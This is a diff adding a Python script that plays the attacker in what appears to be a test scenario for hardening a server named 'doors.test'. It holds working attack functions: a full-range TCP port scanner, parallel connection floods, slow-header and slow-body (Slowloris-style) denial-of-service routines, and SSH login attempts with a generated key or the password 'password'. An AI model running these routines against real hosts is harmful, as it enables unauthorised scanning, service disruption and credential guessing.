@@ -1,0 +1,189 @@
+"""What the attacker does. It runs on the attacker's own host, with Python alone: ``attack.py FUNCTION 'JSON'``.
+
+Everything is bounded in number and time, and goes to the addresses that it is given, those of the scenario's own hosts.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import json
+import os
+import resource
+import select
+import socket
+import ssl
+import subprocess
+import sys
+import time
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+#: Half-open connections at the same time, and the seconds in which a port of the same network answers.
+BATCH, PATIENCE = 6000, 1.0
+#: What a connection to a port ends in.
+REFUSED, SILENT = "refused", "silent"
+
+
+def scan(addresses: list[str], first: int = 1, last: int = 65535) -> dict[str, list[int]]:
+    """Connect to every TCP port; return those that are open."""
+    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    targets = [(address, port) for address in addresses for port in range(first, last + 1)]
+    found: dict[str, list[int]] = {address: [] for address in addresses}
+    batch = min(BATCH, hard - 100)
+    for start in range(0, len(targets), batch):
+        for address, port in _open_ones(targets[start : start + batch]):
+            found[address].append(port)
+    return found
+
+
+def _open_ones(targets: list[tuple[str, int]]) -> list[tuple[str, int]]:
+    poll, pending, found = select.epoll(), {}, []
+    for target in targets:
+        plug = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        plug.setblocking(False)
+        plug.connect_ex(target)
+        pending[plug.fileno()] = (plug, target)
+        poll.register(plug.fileno(), select.EPOLLOUT)
+    ends = time.monotonic() + PATIENCE
+    while pending and (left := ends - time.monotonic()) > 0:
+        for number, _event in poll.poll(left, len(pending)):
+            plug, target = pending.pop(number)
+            poll.unregister(number)
+            if not plug.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                found.append(target)
+            plug.close()
+    for plug, _target in pending.values():
+        plug.close()
+    poll.close()
+    return found
+
+
+def knock(address: str, port: int, count: int = 1) -> list[str]:
+    """Open so many connections at once; return the first word of what each is told, or how it failed."""
+
+    def once(_number: int) -> str:
+        try:
+            with socket.create_connection((address, port), timeout=3) as plug:
+                return "open" if port in (80, 443) else plug.recv(4).decode("ascii", "replace")
+        except ConnectionRefusedError:
+            return REFUSED
+        except OSError:
+            return SILENT
+
+    with ThreadPoolExecutor(count) as pool:
+        return list(pool.map(once, range(count)))
+
+
+def ask(address: str, requests: list[dict[str, Any]], parallel: int = 1) -> list[list[Any]]:
+    """Send requests; return for each status, headers and body. Status 0: the connection was closed without an answer.
+
+    A request has ``path``, and may have ``name`` (of the handshake, and of Host), ``host``, ``plain``, ``method``,
+    ``headers`` (which may come twice) and ``size``, the bytes of a body.
+    """
+    with ThreadPoolExecutor(parallel) as pool:
+        return list(pool.map(lambda request: _one(address, **request), requests))
+
+
+def _one(
+    address: str,
+    path: str = "/",
+    name: str = "doors.test",
+    host: str = "",
+    plain: bool = False,
+    method: str = "GET",
+    headers: list[list[str]] | None = None,
+    size: int = 0,
+) -> list[Any]:
+    try:
+        with contextlib.closing(_connect(address, name, plain)) as plug:
+            connection = http.client.HTTPConnection(name, timeout=10)
+            connection.sock = plug
+            connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+            connection.putheader("Host", host or name)
+            for key, value in headers or []:
+                connection.putheader(key, value)
+            if size:
+                connection.putheader("Content-Length", str(size))
+            connection.endheaders()
+            with contextlib.suppress(OSError):
+                # It may be refused before all of it is there, and the answer is read all the same.
+                plug.sendall(b"a" * size)
+            answer = connection.getresponse()
+            return [answer.status, dict(answer.getheaders()), answer.read().decode("utf-8", "replace")]
+    except (OSError, http.client.HTTPException) as error:
+        return [0, {}, f"{type(error).__name__}: {error}"]
+
+
+def _connect(address: str, name: str, plain: bool = False) -> socket.socket:
+    plug = socket.create_connection((address, 80 if plain else 443), timeout=10)
+    if plain:
+        return plug
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    try:
+        return context.wrap_socket(plug, server_hostname=name)
+    except OSError:
+        plug.close()
+        raise
+
+
+def hold(address: str, kind: str, count: int = 20, most: int = 40) -> list[float]:
+    """Open connections and send as slowly as one can; return the seconds after which each has been closed.
+
+    Args:
+        address: the host.
+        kind: ``headers``, a letter a second of a header that does not end; or ``body``, of which one byte comes.
+        count: connections.
+        most: seconds after which it is given up, and told as such.
+    """
+    request = "POST /upload HTTP/1.1\r\nHost: doors.test\r\nContent-Length: 1000\r\n"
+    start = f"{request}X-Slow: " if kind == "headers" else f"{request}\r\na"
+
+    def once(_number: int) -> float:
+        with contextlib.closing(_connect(address, "doors.test")) as plug:
+            begun = time.monotonic()
+            plug.sendall(start.encode())
+            plug.settimeout(1)
+            while time.monotonic() - begun < most:
+                try:
+                    if not plug.recv(4096):
+                        break
+                except TimeoutError:
+                    try:
+                        plug.sendall(b"a" if kind == "headers" else b"")
+                    except OSError:
+                        break
+                except OSError:
+                    break
+            return round(time.monotonic() - begun, 1)
+
+    with ThreadPoolExecutor(count) as pool:
+        return list(pool.map(once, range(count)))
+
+
+def log_in(address: str, users: list[str], way: str = "publickey") -> list[str]:
+    """Try to log in by SSH, with a key of the attacker's own or with a password; return what ssh says of each."""
+    if not os.path.exists("/root/attacker_key"):
+        make = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/root/attacker_key"]
+        subprocess.run(make, check=True)
+        with open("/root/askpass", "w") as script:
+            script.write("#!/bin/sh\necho password\n")
+        os.chmod("/root/askpass", 0o700)
+    options = {
+        "StrictHostKeyChecking": "no", "UserKnownHostsFile": "/dev/null", "ConnectTimeout": "5",
+        "PreferredAuthentications": way, "IdentityFile": "/root/attacker_key", "IdentitiesOnly": "yes",
+        "NumberOfPasswordPrompts": "1", "LogLevel": "ERROR",
+    }  # fmt: skip
+    said = []
+    for user in users:
+        command = ["ssh", *(f"-o{key}={value}" for key, value in options.items()), f"{user}@{address}", "id"]
+        environment = {**os.environ, "SSH_ASKPASS": "/root/askpass", "SSH_ASKPASS_REQUIRE": "force"}
+        result = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=20, check=False)
+        said.append(f"{result.returncode} {result.stdout}{result.stderr}".strip())
+    return said
+
+
+if __name__ == "__main__":
+    print(json.dumps(globals()[sys.argv[1]](**json.loads(sys.argv[2]))))
